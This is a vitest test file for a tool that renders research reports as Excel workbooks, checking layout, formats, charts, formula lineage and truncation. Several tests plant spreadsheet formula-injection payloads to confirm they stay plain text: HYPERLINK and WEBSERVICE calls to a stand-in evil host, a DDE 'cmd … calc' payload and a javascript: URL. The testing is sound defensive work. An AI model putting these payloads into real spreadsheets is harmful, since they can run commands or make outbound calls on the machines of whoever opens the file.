import { type CellObject, read, type WorkBook, type WorkSheet } from "@e965/xlsx";
import { expect, onTestFinished, test, vi } from "vitest";
import { defaultTemplate } from "../../../src/domain/reports/template.ts";
import type { ReportFigure } from "../../../src/domain/sessions/research.ts";
import { type ReportInput, reportDocument } from "../../../src/reports/document/report-document.ts";
import { fittedReport } from "../../../src/reports/files/fitting.ts";
import { statementRows } from "../../../src/reports/xlsx/statements.ts";
import { Workbook } from "../../../src/reports/xlsx/workbook.ts";
import { render, sheetLimits, tableLimits } from "../../../src/reports/xlsx/xlsx.ts";
import { officeParts, relationships } from "../../support/office-parts.ts";
import { englishInput, longInput, russianInput } from "../fixture.ts";
import { expectLyingBars } from "../office/lying-bars.ts";
import { recordInput } from "../outcome-fixture.ts";
import { plantedTexts } from "../planted.ts";

const [largest = { rows: 0, columns: 0 }] = tableLimits;

function bytesOf(input: ReportInput): Uint8Array {
  return render(reportDocument(input, largest), input);
}

function bookOf(input: ReportInput): WorkBook {
  return read(bytesOf(input), { cellNF: true, cellStyles: true, cellFormula: true });
}

function sheetOf(book: WorkBook, name: string): WorkSheet {
  const sheet = book.Sheets[name];
  if (sheet === undefined) throw new Error(`no sheet '${name}' among ${book.SheetNames.join(", ")}`);
  return sheet;
}

function cells(sheet: WorkSheet): (CellObject & { at: string })[] {
  return Object.entries(sheet).flatMap(([at, cell]) => (at.startsWith("!") ? [] : [{ ...(cell as CellObject), at }]));
}

function cellWith(sheet: WorkSheet, value: string | number): CellObject & { at: string } {
  const found = cells(sheet).find(({ v }) => v === value);
  if (found === undefined) throw new Error(`no cell holds ${value}`);
  return found;
}

const lineageInput = (value: number, year: number): NonNullable<ReportFigure["lineage"]>["inputs"][number] => ({
  sourceId: englishInput().research.sources[0]?.id ?? "",
  place: { from: 0, to: 1, line: year - 1998, heading: [], table: 0, cells: [`${year - 1999}:Renewables`] },
  value,
  at: String(year),
  time: year,
});

function figure(formula: string, value: number, check: ReportFigure["check"] = "recomputed"): ReportFigure {
  return {
    ...{ id: "f1", section: "Growth", text: "It grew.", measure: "growth", subject: "Germany", value, unit: "%", at: "2000–2019" },
    ...{ formula: "last divided by first", check, lineage: { formula, inputs: [lineageInput(29, 2000), lineageInput(243, 2019)] } },
  };
}

function withFigure(figures: ReportFigure[]): ReportInput {
  const input = englishInput();
  return { ...input, research: { ...input.research, figures } };
}

test("the first sheet holds the question, the answer with its sources, completeness and where the rest stands", () => {
  const book = bookOf(englishInput());
  expect(book.SheetNames).toEqual([
    "Summary",
    "Findings",
    "Renewable electricity by countr",
    "Renewable electricity, computed",
    "Curtailed renewable electricity",
    "Disagreements",
    "Not found",
    "Citations",
    "Sources",
  ]);
  const summary = sheetOf(book, "Summary");
  expect(cellWith(summary, "Renewable electricity in Germany and France").at).toBe("B2");
  expect(cells(summary).map(({ v }) => v)).toEqual(expect.arrayContaining(["Answer", "Question", "Researched", "Contents"]));
  expect(cellWith(summary, "Answered in part: the evidence covers only a part of the question. Nothing was found for one part.").at).toBe(
    "B4",
  );
  expect(cellWith(summary, "[1]").l?.Target).toBe("#'Citations'!A2");
  expect(cellWith(summary, "Sources").l?.Target).toBe("#'Sources'!A1");
});

test("what only comes close is no answer of the first sheet unless there is nothing else, and is told as such wherever it stands", () => {
  const input = englishInput();
  const { labels } = reportDocument(input, largest);
  const sectionOf = (text: string, evidence: "strong" | "weak") => ({
    ...{ title: `Of ${text}`, coverage: 1, evidence, paragraphs: [{ kind: "text" as const, text, citations: [] }], tables: [], charts: [] },
  });
  const textsOf = (sheet: string, ...sections: ReturnType<typeof sectionOf>[]) =>
    cells(sheetOf(bookOf({ ...input, research: { ...input.research, summary: [], sections } }), sheet)).map(({ v }) => v);
  const [close, sure] = [sectionOf("Perhaps so.", "weak"), sectionOf("It is so.", "strong")];
  const answers = textsOf("Summary", close, sure);
  expect(answers).toContain("It is so.");
  expect(answers).not.toContain("Perhaps so.");
  expect(textsOf("Findings", close, sure)).toContain(labels.closest);
  expect(textsOf("Summary", close)).toEqual(expect.arrayContaining([labels.closest, "Perhaps so."]));
});

test("a table keeps its numbers as numbers with formats, its heads with units, and each figure leads to its citation", () => {
  const input = englishInput();
  const [growth] = input.research.sections;
  growth?.tables.push({
    title: "Measured",
    columns: [
      { name: "Day", type: "date", unit: null },
      { name: "Power", type: "number", unit: "MW" },
      { name: "Site", type: "text", unit: null },
    ],
    rows: [
      ["2024-03-01", 12345.5, "=1+1"],
      ["2024-03-02", null, "@cmd"],
      ["1850-01-01", 7, "plain"],
    ],
    rowCitations: [input.research.disagreements[0]?.statements[0]?.citations ?? [], [], []],
    note: null,
  });
  const sheet = sheetOf(bookOf(input), "Measured");
  const heads = cells(sheet).filter(({ v }) => v === "Power, MW");
  expect(heads).toHaveLength(1);
  const power = cellWith(sheet, 12345.5);
  expect([power.t, power.z, power.w]).toEqual(["n", "#,##0.0", "12,345.5"]);
  expect(power.l?.Target).toMatch(/^#'Citations'!A\d+$/);
  // The serial number of 1 March 2024.
  const day = cellWith(sheet, 45352);
  expect([day.t, day.z, day.w]).toEqual(["n", "d mmm yyyy", "1 Mar 2024"]);
  // Excel counts no days before 1900.
  expect(cells(sheet).some(({ t, v }) => t === "s" && String(v).includes("1850"))).toBe(true);
  for (const text of ["=1+1", "@cmd"]) expect([cellWith(sheet, text).t, cellWith(sheet, text).f]).toEqual(["s", undefined]);
  expect(sheet["!autofilter"]?.ref).toMatch(/^A\d+:D\d+$/);
  const xml = [...officeParts(bytesOf(input)).values()].find((part) => part.includes("<v>45352</v>")) ?? "";
  const styleOf = (head: string) => new RegExp(`<c r="${cellWith(sheet, head).at}" s="(\\d+)"`).exec(xml)?.[1];
  expect(styleOf("Day"), "days stand at the right, and so does their head").toBe(styleOf("Power, MW"));
  expect(styleOf("Site")).not.toBe(styleOf("Day"));
});

test("heads are frozen, and a filter covers the rows", () => {
  const parts = [...officeParts(bytesOf(englishInput()))].filter(([path]) => /worksheets\/sheet[2-9]\.xml$/.test(path));
  expect(parts).toHaveLength(8);
  for (const [path, xml] of parts) {
    expect(xml, path).toMatch(/<pane ySplit="\d+"[^>]* state="frozen"\/>/);
    expect(xml, path).toMatch(/<autoFilter ref="A\d+:[A-Z]+\d+"/);
  }
});

test("a chart is native, drawn over the cells of its own sheet", () => {
  const parts = officeParts(bytesOf(englishInput()));
  const chart = parts.get("xl/charts/chart1.xml") ?? "";
  expect(chart).toContain("<c:lineChart>");
  expect(chart).toMatch(/<c:f>'Renewable electricity by countr'!\$B\$\d+:\$B\$\d+<\/c:f>/);
  expect(chart).toContain("<c:v>243</c:v>");
  expect([...parts.keys()].filter((path) => path.startsWith("xl/charts/chart"))).toHaveLength(2);
  expect(parts.get("xl/charts/chart2.xml"), "bars of 10.5 and 9.8 begin at zero").toContain('<c:min val="0"/>');
  expect(parts.get("xl/drawings/drawing1.xml")).toMatch(/descr="Line chart/);
});

test("bars whose names do not fit below them lie: the first one above, names and values at their own axes, from zero", () => {
  const xml = officeParts(bytesOf(russianInput())).get("xl/charts/chart1.xml") ?? "";
  expectLyingBars(xml, { names: "Город", values: "тыс. чел." });
});

test("an axis of days is labelled by dates, and lines far above zero are not flat", () => {
  const input = englishInput();
  const chart = input.research.sections[0]?.charts[0];
  if (chart === undefined) throw new Error("the fixture has a chart");
  chart.x.values = chart.x.values.map((_, index) => `2024-03-${String(index + 1).padStart(2, "0")}`);
  chart.lines = [{ name: "CO2", values: chart.x.values.map((_, index) => 315.7 + index * 5) }];
  const xml = officeParts(bytesOf(input)).get("xl/charts/chart1.xml") ?? "";
  expect(xml).toContain('<c:numFmt formatCode="d mmm yyyy" sourceLinked="0"/>');
  expect(xml).toContain('<c:min val="310"/>');
  expect(xml).toContain('<c:tickLblPos val="low"/>');
  expect(officeParts(bytesOf(englishInput())).get("xl/charts/chart1.xml")).not.toContain("<c:min ");
});

test("a computed figure is a formula over its cells, with its value kept", () => {
  const book = bookOf(withFigure([figure("(x2/x1)^(1/(t2-t1))-1", 0.118)]));
  const cell = cellWith(sheetOf(book, "Computed figures"), 0.118);
  expect(cell.f).toBe(
    "('Cells of the figures'!$C$3/'Cells of the figures'!$C$2)^(1/('Cells of the figures'!$D$3-'Cells of the figures'!$D$2))-1",
  );
  const inputs = sheetOf(book, "Cells of the figures");
  expect([inputs.C2?.v, inputs.C3?.v, inputs.D2?.v, inputs.E2?.l?.Target]).toEqual([29, 243, 2000, "#'Sources'!A2"]);
});

test("a thing stands as the subject of its cell, not as its time, and nothing stands twice", () => {
  const headsWith = (at: string, time: number | null, value: number | string) => {
    const given = figure("COUNTA(x1:x1)", 1);
    const [input] = given.lineage?.inputs ?? [];
    if (input === undefined) throw new Error("a figure has inputs");
    const book = bookOf(withFigure([{ ...given, lineage: { formula: "COUNTA(x1:x1)", inputs: [{ ...input, at, time, value }] } }]));
    return cells(sheetOf(book, "Cells of the figures")).flatMap(({ at: cell, v }) => (/^[A-Z]1$/.test(cell) ? [v] : []));
  };
  const [before, behind] = [
    ["Figure", "Input", "Value", "Time"],
    ["Source", "Place"],
  ];
  expect(headsWith("2000", 2000, 29)).toEqual([...before, ...behind]);
  expect(headsWith("2000-03", 2000.167, 29)).toEqual([...before, "When", ...behind]);
  expect(headsWith("Aruba", null, 29)).toEqual([...before, "Subject", ...behind]);
  expect(headsWith("Aruba", null, "Aruba")).toEqual([...before, ...behind]);
});

test("a range and a count become ranges of cells", () => {
  const book = bookOf(withFigure([figure('SUM(x1:x2)/COUNTIF(x1:x2,">0")', 136)]));
  expect(cellWith(sheetOf(book, "Computed figures"), 136).f).toBe(
    "SUM('Cells of the figures'!$C$2:$C$3)/COUNTIF('Cells of the figures'!$C$2:$C$3,\">0\")",
  );
});

test.each(['HYPERLINK("http://evil.example","x")', "x1+x9", 'WEBSERVICE("http://evil.example")', "cmd|' /C calc'!A0", "x1+A1"])(
  "%s is no formula of a figure: the value stands alone",
  (formula) => {
    const book = bookOf(withFigure([figure(formula, 5)]));
    expect(cellWith(sheetOf(book, "Computed figures"), 5).f).toBeUndefined();
  },
);

test("a figure whose cells give another value has no formula, and says so", () => {
  const sheet = sheetOf(bookOf(withFigure([figure("x2/x1", 5, "mismatch")])), "Computed figures");
  expect(cellWith(sheet, 5).f).toBeUndefined();
  expect(cellWith(sheet, "its cells give another value").at).toBe("H2");
});

test("statements stand with their verdicts", () => {
  const input = englishInput();
  const [, , section] = input.research.sections;
  section?.paragraphs.push({ kind: "text", text: "Nobody says so.", citations: [], verdict: "unsupported" });
  const findings = sheetOf(bookOf(input), "Findings");
  const row = cellWith(findings, "Nobody says so. (not supported by its sources)").at.slice(1);
  expect(findings[`E${row}`]?.v).toBe("not supported");
});

test("a list has no column that no row has anything for", () => {
  const headsOf = (input: ReportInput, name: string) =>
    cells(sheetOf(bookOf(input), name)).flatMap(({ at, v }) => (/^[A-Z]1$/.test(at) ? [v] : []));
  const checked = withFigure([{ ...figure("(x2 - x1)", 214), unit: null }]);
  expect(headsOf(checked, "Computed figures")).toEqual(["No.", "Section", "Statement", "Value", "When", "How it is computed", "Check"]);
  expect(headsOf(withFigure([figure("(x2 - x1)", 214)]), "Computed figures")).toContain("Unit");
  const input = recordInput("en");
  expect(headsOf(input, "Findings")).toEqual(["No.", "Section", "Kind", "Statement"]);
  expect(headsOf(englishInput(), "Findings")).toEqual(expect.arrayContaining(["Source", "From"]));
});

test("citations lead to sources, and sources only to http and https", () => {
  const input = englishInput();
  const [first, second] = input.research.sources;
  if (first === undefined || second === undefined) throw new Error("the fixture has sources");
  first.url = "javascript:alert(1)";
  second.url = `https://example.org/${"a".repeat(5_000)}`;
  const outside = relationships(bytesOf(input)).filter(({ isOutside }) => isOutside);
  expect(outside.map(({ target }) => target)).toEqual(
    outside.map(() => expect.stringMatching(/^https:\/\/(?:agency|data)\.example\.org\//)),
  );
});

test("Russian reports have Russian sheets, and keep long tables whole", () => {
  expect(bookOf(russianInput()).SheetNames).toEqual(expect.arrayContaining(["Главное", "Выводы", "Цитаты", "Источники"]));
  const sheets = Object.values(bookOf(longInput(3_000)).Sheets).map((sheet) => cells(sheet).length);
  expect(Math.max(...sheets)).toBeGreaterThan(3_000);
});

test("the same input gives the same bytes, dated by the report", () => {
  const first = bytesOf(englishInput());
  vi.useFakeTimers({ toFake: ["Date"], now: Date.parse("2031-05-06T07:08:09Z") });
  onTestFinished(() => void vi.useRealTimers());
  expect(Buffer.from(bytesOf(englishInput())).equals(first)).toBe(true);
  expect(officeParts(first).get("docProps/core.xml")).toContain(">2026-03-01T09:31:12Z<");
});

test("hostile texts stay texts: nothing becomes a formula, a link or markup", () => {
  const hostile = [
    ...Object.values(plantedTexts),
    ...['=HYPERLINK("http://evil.example")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "_x0041_", "a\u0000b\uD800c"],
    "ש".repeat(300),
    "x".repeat(1_000_000),
  ];
  const input = englishInput();
  const [section] = input.research.sections;
  for (const text of hostile) {
    section?.paragraphs.push({ kind: "text", text, citations: [] });
    section?.tables.push({
      ...{ title: text, note: text, rowCitations: [[]], rows: [[text]] },
      columns: [{ name: text, type: "text", unit: text }],
    });
    section?.charts.push({
      ...{ kind: "bar", title: text, unit: text, citations: [] },
      x: { label: text, values: [text] },
      lines: [{ name: text, values: [1] }],
    });
  }
  const file = bytesOf({ ...input, wording: { title: hostile[0] ?? "", subtitle: hostile[1] ?? "", preface: hostile[2] ?? "" } });
  const book = read(file, { cellFormula: true });
  const all = Object.values(book.Sheets).flatMap(cells);
  expect(all.filter(({ f }) => f !== undefined)).toEqual([]);
  expect(all.map(({ v }) => v)).toEqual(expect.arrayContaining(["=cmd|' /C calc'!A0", "@SUM(1)"]));
  expect(new Set(book.SheetNames.map((name) => name.toLowerCase())).size).toBe(book.SheetNames.length);
  for (const name of book.SheetNames) expect(name).toMatch(/^(?!')[^[\]:*?/\\]{1,31}$/);
  for (const [path, xml] of officeParts(file)) expect(xml, path).not.toMatch(/(?![\t\n\r])\p{Cc}|<script/u);
  expect(relationships(file).filter(({ target, isOutside }) => isOutside && !/^https?:/.test(target))).toEqual([]);
});

test("a template's logo and cover stand above the title", () => {
  const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
  const template = {
    ...{ ...defaultTemplate, cover: { organisation: "Acme", note: "Confidential" } },
    logo: { mediaType: "image/png" as const, data: pixel, alternative: "The logo", width: 30, height: 30 },
  };
  const input = { ...englishInput(), template };
  const bytes = bytesOf(input);
  const summary = sheetOf(read(bytes), read(bytes).SheetNames[0] ?? "");
  const column = ["B2", "B3", "B4"].map((at) => (summary[at] as CellObject | undefined)?.v);
  expect(column).toEqual(["Acme", "Confidential", "March 1, 2026"]);
  const parts = officeParts(bytes);
  expect(relationships(bytes).map(({ target }) => target)).toContain("../media/image1.png");
  expect(
    [...parts]
      .filter(([name]) => name.startsWith("xl/drawings/drawing"))
      .map(([, text]) => text)
      .join(),
  ).toContain('descr="The logo"');
  expect(Buffer.compare(bytesOf(input), bytes)).toBe(0);
});

test("a table longer than its sheet may be is cut, with a note above it", async () => {
  const input = longInput(400);
  const bytes = await fittedReport("xlsx", input, { maxBytes: 20e6, maxSheetRows: 150 });
  const texts = Object.values(read(bytes).Sheets).flatMap((sheet) => cells(sheet).map(({ v }) => String(v)));
  expect(texts).toContainEqual(expect.stringMatching(/^The first 150 of \d+ rows/));
  expect(sheetLimits(5_000_000)[0]?.rows).toBeLessThan(1_048_576);
});

test("a text longer than a cell holds ends with words that say so, and a list longer than a sheet, too", () => {
  const book = new Workbook(defaultTemplate, "", { cellFull: "[cut]", sheetFull: "cut" });
  const sheet = book.sheet("Long");
  sheet.text(0, 0, "word ".repeat(10_000));
  sheet.text(1_048_574, 0, "the last row");
  sheet.text(1_048_580, 0, "beyond");
  sheet.number(2_000_000, 1, 7);
  sheet.widths([20]);
  const written = sheetOf(read(book.bytes()), "Long");
  const long = String(written.A1?.v);
  expect(long.length).toBeLessThanOrEqual(32_767);
  expect(long).toMatch(/\[cut\]$/);
  expect([written.A1048575?.v, written.A1048576?.v]).toEqual(["the last row", "cut"]);
});

test("a statement longer than a cell goes on in the next row, and no character is lost between them", () => {
  const text = `${"x".repeat(31_999)}𝄞 and on`;
  const run = { lead: "", text, spans: [], marks: [] };
  const rows = statementRows(null, [{ form: "list", ordered: false, items: [[run]] }]);
  expect(rows.map((row) => row.text).join("")).toBe(text);
  expect(rows.every((row) => row.text.isWellFormed())).toBe(true);
});

test("a workbook's memory is given back when its bytes are there", () => {
  const input = longInput(1_000);
  const document = reportDocument(input, largest);
  // That of the library, without the files themselves.
  const taken = (): number => {
    const { external, arrayBuffers } = process.memoryUsage();
    return (external - arrayBuffers) / 1e6;
  };
  for (let warm = 0; warm < 3; warm += 1) render(document, input);
  const before = taken();
  for (let book = 0; book < 40; book += 1) render(document, input);
  expect(taken() - before).toBeLessThan(8);
});

test("cells of one column keep their values where numbers, texts and links take turns", () => {
  const book = new Workbook(defaultTemplate, "", { cellFull: "full", sheetFull: "full" });
  const sheet = book.sheet("Turns");
  sheet.text(0, 0, "=1+1");
  sheet.text(1, 0, "plain");
  sheet.text(2, 0, "plain, too");
  sheet.number(3, 0, 4.5, { format: "0.0" });
  sheet.linkedNumber(4, 0, { sheet: "Turns", row: 0 }, 5.5, { format: "0.0" });
  sheet.number(6, 0, 6.5, { format: "0.0" });
  sheet.link(7, 0, "https://example.org/", "linked");
  sheet.text(8, 0, "plain again");
  sheet.widths([10]);
  const turns = sheetOf(read(book.bytes(), { cellFormula: true }), "Turns");
  expect(cells(turns).map(({ at, v, f }) => [at, v, f])).toEqual([
    ["A1", "=1+1", undefined],
    ["A2", "plain", undefined],
    ["A3", "plain, too", undefined],
    ["A4", 4.5, undefined],
    ["A5", 5.5, undefined],
    ["A7", 6.5, undefined],
    ["A8", "linked", undefined],
    ["A9", "plain again", undefined],
  ]);
});
